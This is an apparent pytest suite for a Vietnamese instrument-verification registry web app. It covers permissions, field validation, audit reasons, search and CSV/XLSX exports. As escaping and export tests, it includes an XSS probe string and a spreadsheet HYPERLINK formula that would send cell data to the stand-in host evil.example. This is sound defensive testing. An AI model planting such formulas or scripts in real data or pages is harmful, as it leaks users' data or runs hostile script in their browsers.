"""Registry pages: status codes, per-field errors, escaping, permissions, exports."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from lims.audit.models import AuditEvent
from lims.registry.models import Customer, Instrument

from .conftest import SCALE

SCRIPT = "<script>alert(1)</script>"


def _instrument_form(customer_id, **overrides) -> dict:
    data = {"type_code": "nawi", "customer_id": str(customer_id), "customer_lookup": "", "manufacturer": "CAS",
            "model": "SW-1S", "serial": "20A99999", "pattern_approval_mark": "", "year_made": "2020",
            "place_of_use": "Chợ Hoa Lư", "status": "active", "last_verified_date": "15/03/2026",
            "next_due_date": "", "notes": ""}
    data.update({f"spec_nawi-{key}": value for key, value in SCALE.items()})
    data.update(overrides)
    return data


def _field_errors(html: str, field: str) -> str:
    marker = f'data-field="{field}">'
    return "".join(part.split("</div>")[0] for part in html.split(marker)[1:])


def test_lists_and_pages_answer_200(client, auth, create_instrument):
    instrument = create_instrument()
    auth.login("auditor")
    for url in ["/instruments", "/instruments?q=20a", "/instruments?overdue=1", "/instruments?due_within=30&sort=due",
                f"/instruments/{instrument.id}", "/customers", "/customers?q=nguyen",
                f"/customers/{instrument.customer_id}",
                "/customers/lookup?q=lan"]:
        assert client.get(url).status_code == 200, url


def test_reading_roles_cannot_register_or_import(client, auth):
    auth.login("auditor")
    assert client.get("/instruments/new").status_code == 403
    assert client.post("/customers/new", data={"name": "X"}).status_code == 403
    assert client.get("/instruments/import").status_code == 403


def test_unknown_records_are_404(client, auth):
    auth.login("technician")
    assert client.get("/instruments/999999").status_code == 404
    assert client.get("/customers/999999/edit").status_code == 404


def test_register_instrument_redirects_to_detail(client, auth, create_customer, session):
    customer = create_customer()
    auth.login("technician")
    response = client.post("/instruments/new", data=_instrument_form(customer.id))
    assert response.status_code == 302
    instrument = session.scalars(select(Instrument)).one()
    assert response.headers["Location"].endswith(f"/instruments/{instrument.id}")
    assert instrument.next_due_date.isoformat() == "2027-03-15"  # 12 months after the verification
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    assert "20A99999" in page and "Chợ Hoa Lư" in page and "15/03/2027" in page


def test_register_instrument_accepts_decimal_comma(client, auth, create_customer, session):
    auth.login("technician")
    data = _instrument_form(create_customer().id, **{"spec_nawi-e": "0,01", "spec_nawi-d": "0,01"})
    assert client.post("/instruments/new", data=data).status_code == 302
    assert session.scalars(select(Instrument.spec)).one()["e"] == "0.01"


def test_register_instrument_finds_customer_by_tax_code_without_script(client, auth, create_customer, session):
    customer = create_customer(tax_code="5901234567")
    auth.login("technician")
    response = client.post("/instruments/new", data=_instrument_form("", customer_lookup="5901234567"))
    assert response.status_code == 302
    assert session.scalars(select(Instrument.customer_id)).one() == customer.id


def test_register_instrument_shows_spec_error_on_its_field(client, auth, create_customer, session):
    customer = create_customer()
    auth.login("technician")
    response = client.post("/instruments/new", data=_instrument_form(customer.id, **{"spec_nawi-accuracy_class": "II"}))
    html = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "out of range for class II" in _field_errors(html, "spec_nawi-accuracy_class")
    assert session.scalar(select(func.count()).select_from(Instrument)) == 0


@pytest.mark.parametrize(("field", "value", "message"), [
    ("serial", "", "Trường này không được để trống."),
    ("type_code", "", "Trường này không được để trống."),
    ("year_made", "năm ngoái", "Phải là một số nguyên."),
    ("last_verified_date", "31/02/2026", "Ngày không hợp lệ; nhập theo dạng dd/mm/yyyy."),
    ("customer_id", "", "Hãy chọn khách hàng (chủ sở hữu phương tiện đo)."),
])
def test_register_instrument_shows_field_errors(client, auth, create_customer, field, value, message):
    customer = create_customer()
    auth.login("technician")
    data = _instrument_form(customer.id)
    data[field] = value
    html = client.post("/instruments/new", data=data).get_data(as_text=True)
    assert message in _field_errors(html, field)


def test_duplicate_instrument_error_links_to_the_existing_record(client, auth, create_instrument):
    existing = create_instrument("20A-99999", manufacturer="CAS")
    auth.login("technician")
    html = client.post("/instruments/new", data=_instrument_form(existing.customer_id, serial="20a 99999",
                                                                  manufacturer="cas")).get_data(as_text=True)
    errors = _field_errors(html, "serial")
    assert "đã có trong sổ" in errors
    assert f'href="/instruments/{existing.id}"' in errors


def test_edit_instrument_requires_reason_and_records_it(client, auth, create_instrument, session):
    instrument = create_instrument("20A1")
    auth.login("technician")
    form = _instrument_form(instrument.customer_id, serial="20A1", place_of_use="Chợ Yên Thế", reason="")
    html = client.post(f"/instruments/{instrument.id}/edit", data=form).get_data(as_text=True)
    assert "Hãy ghi lý do thay đổi" in _field_errors(html, "reason")
    form["reason"] = "Khách chuyển quầy"
    assert client.post(f"/instruments/{instrument.id}/edit", data=form).status_code == 302
    event = session.scalars(select(AuditEvent).where(AuditEvent.entity_id == str(instrument.id),
                                                     AuditEvent.action == "update")).one()
    assert event.reason == "Khách chuyển quầy"
    history = client.get(f"/instruments/{instrument.id}").get_data(as_text=True)
    assert "Khách chuyển quầy" in history and "Chợ Yên Thế" in history


def test_edit_form_shows_the_current_characteristics(client, auth, create_instrument):
    instrument = create_instrument(spec={**SCALE, "max": "60", "e": "0.02", "d": "0.02"})
    auth.login("technician")
    html = client.get(f"/instruments/{instrument.id}/edit").get_data(as_text=True)
    assert re.search(r'<input[^>]*name="spec_nawi-max"[^>]*value="60"', html)


def test_script_in_names_is_escaped_everywhere(client, auth, create_customer, create_instrument):
    customer = create_customer(SCRIPT, address=SCRIPT)
    instrument = create_instrument(SCRIPT[:40], customer=customer, place_of_use=SCRIPT)
    auth.login("technician")
    for url in [f"/customers/{customer.id}", "/customers", "/instruments", f"/instruments/{instrument.id}",
                f"/instruments/{instrument.id}/edit", f"/customers/{customer.id}/edit", "/customers/lookup?q=script"]:
        body = client.get(url).get_data(as_text=True)
        assert "<script>alert" not in body, url
    assert client.get("/customers/lookup?q=script").get_json()[0]["address"] == SCRIPT  # JSON escapes, JS reads text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in client.get(f"/customers/{customer.id}").get_data(as_text=True)


def test_customer_create_shows_tax_code_error_and_duplicate_link(client, auth, create_customer, session):
    existing = create_customer("Công ty A", tax_code="5900123457")
    auth.login("reception")
    html = client.post("/customers/new", data={"name": "B", "tax_code": "12345"}).get_data(as_text=True)
    assert "10 chữ số" in _field_errors(html, "tax_code")
    html = client.post("/customers/new", data={"name": "B", "tax_code": "5900123457"}).get_data(as_text=True)
    assert f'href="/customers/{existing.id}"' in _field_errors(html, "tax_code")
    assert session.scalar(select(func.count()).select_from(Customer)) == 1
    response = client.post("/customers/new", data={"name": "Chợ Tân Phú", "tax_code": "5900123458"})
    assert response.status_code == 302


def test_customer_detail_lists_their_instruments(client, auth, create_instrument):
    instrument = create_instrument("20A777")
    auth.login("technician")
    html = client.get(f"/customers/{instrument.customer_id}").get_data(as_text=True)
    assert "20A777" in html and f"/instruments/new?customer_id={instrument.customer_id}" in html


def test_search_without_accents_on_the_list_page(client, auth, create_customer, create_instrument):
    create_instrument("20A1", customer=create_customer("Chợ Tân Phú"))
    create_instrument("20A2", customer=create_customer("Chợ Hoa Lư"))
    auth.login("technician")
    html = client.get("/instruments?q=tan+phu").get_data(as_text=True)
    assert "20A1" in html and "20A2" not in html


def test_bad_filter_values_are_ignored_with_a_message(client, auth, create_instrument):
    create_instrument("20A1")
    auth.login("technician")
    response = client.get("/instruments?due_within=abc&type_code=rocket&page=-4")
    assert response.status_code == 200
    assert "20A1" in response.get_data(as_text=True)


def test_lookup_suggests_customers_as_json(client, auth, create_customer):
    create_customer("Điện lực Pleiku", tax_code="5915881391-001")
    auth.login("technician")
    found = client.get("/customers/lookup?q=dien luc").get_json()
    assert [item["label"] for item in found] == ["Điện lực Pleiku (5915881391-001)"]


# --- export -----------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_export_csv_has_bom_filters_and_neutralised_formulas(client, auth, create_customer, create_instrument):
    create_instrument("20A1", customer=create_customer(FORMULA), notes="+SUM(1,2)")
    create_instrument("99Z9", customer=create_customer("Chợ Hoa Lư"))
    auth.login("auditor")
    response = client.get("/instruments/export.csv?q=20a")
    body = response.get_data()
    assert response.mimetype == "text/csv"
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    header, data = rows[0], rows[1:]
    assert len(data) == 1
    record = dict(zip(header, data[0]))
    assert record["Tên khách hàng"] == "'" + FORMULA
    assert record["Ghi chú"] == "'+SUM(1,2)"
    assert record["Số sản xuất"] == "20A1"


def test_export_xlsx_cells_are_text_not_formulas(client, auth, create_customer, create_instrument):
    create_instrument("20A1", customer=create_customer(FORMULA))
    auth.login("auditor")
    response = client.get("/instruments/export.xlsx")
    sheet = load_workbook(io.BytesIO(response.get_data())).worksheets[0]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    assert row["Tên khách hàng"].data_type == "s"
    assert row["Tên khách hàng"].value == "'" + FORMULA
    assert row["Hạn kiểm định"].value is None or row["Hạn kiểm định"].is_date


def test_export_customers_csv(client, auth, create_customer):
    create_customer("Chợ Tân Phú", tax_code="5900000001")
    create_customer("Điện lực Pleiku", tax_code="5900000002")
    auth.login("auditor")
    rows = list(csv.reader(io.StringIO(client.get("/customers/export.csv?q=tan+phu").get_data().decode("utf-8-sig"))))
    assert [row[1] for row in rows[1:]] == ["Chợ Tân Phú"]


def test_customers_filter_by_district(client, auth, create_customer):
    create_customer("Chợ Đak Đoa", district="Huyện Đak Đoa")
    create_customer("Chợ Hoa Lư", district="TP. Pleiku")
    auth.login("technician")
    html = client.get("/customers?district=Huy%E1%BB%87n+%C4%90ak+%C4%90oa").get_data(as_text=True)
    assert "Chợ Đak Đoa" in html and "Chợ Hoa Lư" not in html
    assert client.get("/customers?district=Nowhere").status_code == 200
